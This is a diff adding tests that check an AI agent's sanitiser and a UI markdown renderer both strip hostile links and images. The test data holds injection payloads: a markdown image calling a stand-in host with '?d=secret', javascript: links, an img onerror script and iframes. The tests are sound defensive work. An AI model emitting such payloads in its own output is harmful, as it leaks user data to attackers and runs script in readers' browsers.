@@ -6,12 +6,16 @@ should point at an existing ONNX export so start-up stays quick).
 
 from __future__ import annotations
 
+import html
 import sqlite3
 from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
+from pathwise.agent import guards
 from pathwise.agent.models import Citation, FitResult, Reason, Turn
 from pathwise.errors import ConfigError
 from pathwise.ui import render
@@ -250,6 +254,42 @@ def test_safe_markdown(text: str, present: list[str], absent: list[str]) -> None
 
 def test_default_allowlist_keeps_no_links() -> None:
     assert render.safe_markdown("[docs](https://example.org/x)") == "docs"
+
+
+@pytest.mark.parametrize(
+    ("hostile", "agent_keeps", "page_shows"),
+    [
+        ("See ![chart](https://evil.example/x.png?d=secret) here.", "See here.", "See here."),
+        ("Try ![a][r] this.\n\n[r]: https://evil.example/p.png", "Try this.", "Try this."),
+        ("Read [the post](https://evil.example/p).", "Read the post.", "Read the post."),
+        ("Click [me](javascript:alert(1)).", "Click me.", "Click me."),
+        ('<img src="https://evil.example/p.png" onerror="alert(1)">', "", '&lt;img src="(link removed) onerror="alert(1)">'),
+        ('Read <a href="https://evil.example/p">the post</a>.', "Read the post.", 'Read &lt;a href="(link removed)>the post&lt;/a>.'),
+        ('<a href="javascript:alert(1)">me</a>', "me", '&lt;a href="(link removed)>me&lt;/a>'),
+        ('A <iframe src="https://evil.example/x"></iframe> frame.', "A frame.", 'A &lt;iframe src="(link removed)>&lt;/iframe> frame.'),
+    ],
+    ids=["markdown image", "reference image", "link to another host", "javascript link", "html img", "html a", "html javascript a", "html iframe"],
+)
+def test_the_page_and_the_agent_remove_the_same_links_and_images(hostile: str, agent_keeps: str, page_shows: str) -> None:
+    shown = render.safe_markdown(hostile)
+    assert guards.sanitize(hostile).strip() == agent_keeps
+    assert shown.strip() == page_shows
+    # The same result: the page keeps what the agent keeps; raw HTML it shows as text where the agent deletes it.
+    assert guards.sanitize(html.unescape(shown)).strip() == agent_keeps
+    for live in ("evil.example", "javascript:", "![", "<"):
+        assert live not in shown
+
+
+HOSTILE = ["<b>", "</b>", "<", ">", "![a](https://evil.io/i.png)", "[t](https://evil.io/p)", "[d](https://example.org/d)",
+           "https://evil.io/q", "<https://evil.io/r>", "www.evil.io", "me@evil.io", "[r]: https://evil.io/s", "<iframe src=",
+           "<img src=", '"', "javascript:x", "data:x", "word", " ", "\n", "[", "]", "(", ")", "!", "<!--", "-->", "&"]
+
+
+@given(st.lists(st.sampled_from(HOSTILE), max_size=25).map("".join))
+def test_the_page_has_no_sanitiser_of_its_own(text: str) -> None:
+    shown = render.safe_markdown(text, ALLOW)
+    assert shown == guards.sanitize(text, ALLOW, html="escape", removed=render.LINK_REMOVED)
+    assert "evil.io" not in shown and "javascript:" not in shown.lower() and "<" not in shown
 
 
 def turn(**kw) -> Turn:  # type: ignore[no-untyped-def]
